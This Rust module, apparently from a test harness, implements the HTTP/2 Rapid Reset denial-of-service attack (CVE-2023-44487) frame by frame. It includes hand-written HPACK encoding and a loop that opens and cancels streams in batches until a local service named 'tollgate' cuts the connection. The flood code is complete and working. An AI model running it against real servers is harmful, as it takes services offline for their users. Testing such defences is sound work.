//! Just enough HTTP/2 to open streams and reset them at once (CVE-2023-44487), frame by frame.
//!
//! A client library would not do: it does not send a request that is given up at once.

use std::sync::Arc;

use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

use super::process::Target;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frame types and flags, RFC 9113 §6.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const ACK: u8 = 1;
const END_STREAM_AND_HEADERS: u8 = 0x5;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Streams written at once.
const BATCH: u32 = 50;
/// Client streams have odd numbers of 31 bits.
const STREAM_MAX: u32 = 0x7fff_ffff - 2 * BATCH;

/// A TLS configuration that trusts one certificate, PEM; none if it is empty.
pub(crate) fn trusting(certificate: &[u8]) -> anyhow::Result<ClientConfig> {
    let mut roots = RootCertStore::empty();
    for certificate in CertificateDer::pem_slice_iter(certificate) {
        roots.add(certificate?)?;
    }
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let config = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions()?;
    Ok(config.with_root_certificates(roots).with_no_client_auth())
}

/// Opens and resets streams on one connection until tollgate cuts it off; `count` hears of each batch.
pub(crate) async fn reset_streams(
    target: &Target,
    mut tls: ClientConfig,
    mut count: impl FnMut(u64),
) -> anyhow::Result<()> {
    tls.alpn_protocols = vec![b"h2".to_vec()];
    let socket = TcpStream::connect(target.address).await?;
    socket.set_nodelay(true)?;
    let name = ServerName::try_from("localhost")?;
    let stream = TlsConnector::from(Arc::new(tls)).connect(name, socket).await?;
    anyhow::ensure!(stream.get_ref().1.alpn_protocol() == Some(b"h2"), "HTTP/2 was not negotiated");
    let (mut reading, mut writing) = tokio::io::split(stream);
    let fields = header_block(&target.address.to_string(), target.key.expose());
    let cut_off = async {
        let mut scratch = [0; 16 * 1024];
        while reading.read(&mut scratch).await.is_ok_and(|read| read > 0) {}
    };
    let floods = async {
        writing.write_all(PREFACE).await?;
        writing.write_all(&[frame(SETTINGS, 0, 0, &[]), frame(SETTINGS, ACK, 0, &[])].concat()).await?;
        let mut next = 1;
        while next < STREAM_MAX {
            let mut batch = Vec::new();
            for stream in (next..next + 2 * BATCH).step_by(2) {
                batch.extend(frame(HEADERS, END_STREAM_AND_HEADERS, stream, &fields));
                batch.extend(frame(RST_STREAM, 0, stream, &CANCEL));
            }
            writing.write_all(&batch).await?;
            writing.flush().await?;
            count(u64::from(BATCH));
            next += 2 * BATCH;
        }
        anyhow::Ok(())
    };
    tokio::select! {
        () = cut_off => Ok(()),
        // Cut off while writing is no less an end.
        _ = floods => Ok(()),
    }
}

/// A frame, RFC 9113 §4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A GET's fields, without compression beyond the static table (RFC 7541 §6, appendix A).
fn header_block(authority: &str, key: &str) -> Vec<u8> {
    // `:method: GET` and `:scheme: https` are entries 2 and 7; the others have their name there.
    let mut block = vec![0x80 | 2, 0x80 | 7];
    literal(&mut block, 1, authority);
    literal(&mut block, 4, "/repos/a/b");
    literal(&mut block, 23, &format!("Bearer {key}"));
    block
}

/// A field with an indexed name, not to be indexed itself.
fn literal(block: &mut Vec<u8>, name: u8, value: &str) {
    integer(block, 4, name);
    integer(block, 7, u8::try_from(value.len()).expect("authorities and keys have less than 256 bytes"));
    block.extend(value.as_bytes());
}

/// An integer in the lowest bits of a byte and, if it does not fit, in the next (RFC 7541 §5.1).
fn integer(block: &mut Vec<u8>, bits: u8, value: u8) {
    let most = (1u8 << bits) - 1;
    if value < most {
        block.push(value);
    } else {
        block.push(most);
        let mut rest = value - most;
        while rest >= 0x80 {
            block.push(rest | 0x80);
            rest >>= 7;
        }
        block.push(rest);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_and_integers_are_as_the_rfcs_say() {
        assert_eq!(frame(RST_STREAM, 0, 3, &CANCEL), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
        let encoded = |bits, value| {
            let mut block = Vec::new();
            integer(&mut block, bits, value);
            block
        };
        assert_eq!(encoded(4, 4), [4]);
        assert_eq!(encoded(4, 23), [15, 8]);
        assert_eq!(encoded(7, 126), [126]);
        assert_eq!(encoded(7, 127), [127, 0]);
        assert_eq!(encoded(4, 255), [15, 0xf0, 1]);
    }

    #[test]
    fn a_header_block_holds_what_a_request_needs() {
        let block = header_block("127.0.0.1:1", "k");
        let expected: &[&[u8]] =
            &[&[0x82, 0x87, 1, 11], b"127.0.0.1:1", &[4, 10], b"/repos/a/b", &[15, 8, 8], b"Bearer k"];
        assert_eq!(block, expected.concat());
    }
}
